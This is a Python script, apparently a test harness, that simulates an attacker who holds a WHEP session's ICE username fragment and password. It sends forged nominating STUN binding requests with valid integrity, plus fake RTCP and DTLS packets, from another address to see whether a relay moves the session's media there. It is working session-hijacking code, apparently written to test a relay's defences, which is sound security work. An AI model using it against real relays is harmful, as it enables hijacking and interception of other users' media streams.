#!/usr/bin/env python3
"""An attacker who has read a WHEP session's ICE credentials (its answer's ice-ufrag and ice-pwd)
tries to move the session's media onto another address: from a UDP socket bound to that address
(e.g. 127.0.0.2) it sends, every 200 ms, a nominating STUN binding request with valid integrity,
then RTCP- and DTLS-shaped datagrams, and counts what the relay sends back to that address.

    spoof_media_path.py --relay 127.0.0.1:PORT --ufrag U --pwd P [--bind 127.0.0.2] [--seconds 5]

Prints one JSON line: datagrams sent; STUN received (and how many were binding successes);
anything else received (media, DTLS) and its bytes.
"""
import argparse
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time
import zlib

MAGIC = 0x2112A442


def attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("!HH", kind, len(value)) + value + b"\0" * (-len(value) % 4)


def binding_request(username: str, password: str) -> bytes:
    body = attribute(0x0006, username.encode())          # USERNAME
    body += attribute(0x0024, struct.pack("!I", 1845501695))  # PRIORITY
    body += attribute(0x0025, b"")                        # USE-CANDIDATE
    body += attribute(0x802A, os.urandom(8))              # ICE-CONTROLLING
    tid = os.urandom(12)
    header = struct.pack("!HHI", 0x0001, len(body) + 24, MAGIC) + tid
    mac = hmac.new(password.encode(), header + body, hashlib.sha1).digest()
    body += attribute(0x0008, mac)                        # MESSAGE-INTEGRITY
    header = struct.pack("!HHI", 0x0001, len(body) + 8, MAGIC) + tid
    crc = (zlib.crc32(header + body) ^ 0x5354554E) & 0xFFFFFFFF
    body += attribute(0x8028, struct.pack("!I", crc))     # FINGERPRINT
    return header + body


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--relay", required=True)
    parser.add_argument("--ufrag", required=True)
    parser.add_argument("--pwd", required=True)
    parser.add_argument("--bind", default="127.0.0.2")
    parser.add_argument("--seconds", type=float, default=5)
    args = parser.parse_args()
    host, port = args.relay.rsplit(":", 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((args.bind, 0))
    sock.settimeout(0.05)
    relay = (host, int(port))
    # A receiver report as SRTCP would carry it (header, sender SSRC, then bytes no key made).
    rtcp = bytes([0x81, 0xC9, 0x00, 0x07]) + os.urandom(28) + bytes([0x80, 0, 0, 1]) + os.urandom(10)
    dtls = bytes([0x17, 0xFE, 0xFD, 0, 1, 0, 0, 0, 0, 0, 9, 0, 40]) + os.urandom(40)
    counts = {"sent": 0, "stunReceived": 0, "stunSuccess": 0, "otherReceived": 0, "otherBytes": 0}
    end = time.monotonic() + args.seconds
    next_send = 0.0
    while time.monotonic() < end:
        if time.monotonic() >= next_send:
            for datagram in [binding_request(f"{args.ufrag}:spoof", args.pwd), rtcp, rtcp, dtls]:
                sock.sendto(datagram, relay)
                counts["sent"] += 1
            next_send = time.monotonic() + 0.2
        try:
            data, _ = sock.recvfrom(2048)
        except socket.timeout:
            continue
        if data and data[0] < 4:
            counts["stunReceived"] += 1
            if data[:2] == b"\x01\x01":
                counts["stunSuccess"] += 1
        else:
            counts["otherReceived"] += 1
            counts["otherBytes"] += len(data)
    print(json.dumps(counts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
